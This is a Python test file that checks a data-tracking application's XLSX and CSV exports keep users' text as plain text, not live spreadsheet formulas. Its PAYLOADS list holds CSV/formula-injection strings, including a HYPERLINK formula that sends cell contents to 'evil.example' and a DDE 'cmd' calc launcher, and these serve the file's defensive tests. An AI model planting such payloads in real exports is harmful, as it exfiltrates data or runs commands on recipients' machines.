"""Item 19: spreadsheet exports never write users' text as a live formula. The files are
read back as a spreadsheet program would: XLSX cells must be text (with the quote
prefix), CSV fields must not begin with a formula character."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from deo.publish.app import create_app
from deo.sources.formats.cells import FORMULA_STARTS, csv_safe
from deo.sources.load import load_files
from deo.track import plan
from deo.track.access import SYSTEM, Actor
from deo.track.auth import add_user
from deo.track.export import export
from deo.track.schema import User
from deo.track.updates import submit_update

#: One payload per dangerous first character.
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
ROWS = """indicator,area,period,value
IT.NET.USER.ZS,KEN,2022,32.7
IT.NET.USER.ZS,UGA,2022,10.3
"""


def cells(book) -> list:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(book) -> None:
    found = cells(book)
    assert all(cell.data_type != "f" for cell in found)
    risky = [cell for cell in found if isinstance(cell.value, str)
             and cell.value.startswith(FORMULA_STARTS)]
    assert all(cell.quotePrefix for cell in risky)


def test_the_progress_report_workbook_keeps_user_text_as_text(store, tmp_path):
    engine = store.engine
    plan.add_organisation(engine, SYSTEM, "MOT", "Ministry")
    plan.create_strategy(engine, SYSTEM, "S", PAYLOADS[0], "KEN", 2025, 2028,
                         lead_organisation="MOT")
    ids = [plan.add_measure(engine, SYSTEM, "S", plan.MeasureFields(
        code=f"M{n}", title=text, description=text, policy_area="ICT", lead_agency="MOT",
        start_date=date(2025, 1, 1), due_date=date(2027, 12, 31)))
        for n, text in enumerate(PAYLOADS, start=1)]
    # A focal point's own narrative (users' names are text too).
    add_user(engine, SYSTEM, "fp@mot.example", PAYLOADS[2], "correct horse battery",
             "focal_point", "MOT")
    with engine.connect() as conn:
        row = conn.execute(select(User.__table__).where(
            User.__table__.c.email == "fp@mot.example")).first()
    focal_point = Actor(row.id, row.email, row.role, row.organisation_id)
    submit_update(engine, focal_point, ids[0], "in_progress", 10, PAYLOADS[3])
    path = export(store, SYSTEM, "S", tmp_path / "report.xlsx")
    book = openpyxl.load_workbook(path)
    assert_no_formula(book)
    # The text reads back exactly as the user wrote it.
    titles = [row[1] for row in book["measures"].iter_rows(min_row=2, values_only=True)]
    assert sorted(titles) == sorted(PAYLOADS)
    summary = {r[0]: r[1] for r in book["summary"].iter_rows(min_row=2, values_only=True)}
    assert summary["title"] == PAYLOADS[0]
    narratives = [r for r in book["updates"].iter_rows(values_only=True) if PAYLOADS[3] in r]
    assert narratives


@pytest.fixture
def client(store, tmp_path) -> TestClient:
    path = tmp_path / "rows.csv"
    path.write_text(ROWS)
    # The release's source and licence are text a loader typed: they go into downloads.
    load_files(store, [path], source=PAYLOADS[1], licence=PAYLOADS[0])
    return TestClient(create_app(store))


def test_observation_xlsx_keeps_text_as_text(client):
    got = client.get("/api/v1/observations", params={"format": "xlsx", "extra": "provenance"})
    assert got.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(got.content))
    assert_no_formula(book)
    frame = pd.read_excel(io.BytesIO(got.content))
    assert set(frame["source"]) == {PAYLOADS[1]} and set(frame["licence"]) == {PAYLOADS[0]}
    assert sorted(frame["value"]) == [10.3, 32.7]  # numbers stay numbers


def test_observation_csv_quotes_formula_text(client):
    got = client.get("/api/v1/observations", params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(got.text)))
    fields = [value for row in rows for value in row.values()]
    assert not any(value.startswith(FORMULA_STARTS) for value in fields
                   if not _number(value))
    assert {row["source"] for row in rows} == {"'" + PAYLOADS[1]}
    assert {row["licence"] for row in rows} == {"'" + PAYLOADS[0]}
    assert sorted(float(row["value"]) for row in rows) == [10.3, 32.7]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_safe_prefixes_every_formula_start_and_nothing_else():
    frame = pd.DataFrame({"text": [*PAYLOADS, "plain", "a=b", None],
                          "number": [-1.5] * (len(PAYLOADS) + 3)})
    safe = csv_safe(frame)
    assert list(safe["text"][:len(PAYLOADS)]) == ["'" + p for p in PAYLOADS]
    assert list(safe["text"][len(PAYLOADS):].fillna("")) == ["plain", "a=b", ""]
    assert safe["number"].equals(frame["number"])


def test_the_xlsx_writer_keeps_text_as_text(tmp_path):
    from deo.sources.formats import get_format

    frame = pd.DataFrame({"indicator": ["IT.NET.USER.ZS"], "area": ["KEN"],
                          "period": ["2022"], "breakdown": [""], "value": [-1.5],
                          "status": [PAYLOADS[0]], "se": [None], "ci_lower": [None],
                          "ci_upper": [None]})
    get_format("xlsx").write(frame, tmp_path / "x.xlsx")
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    assert_no_formula(book)
    values = [c.value for c in cells(book)]
    assert PAYLOADS[0] in values and -1.5 in values
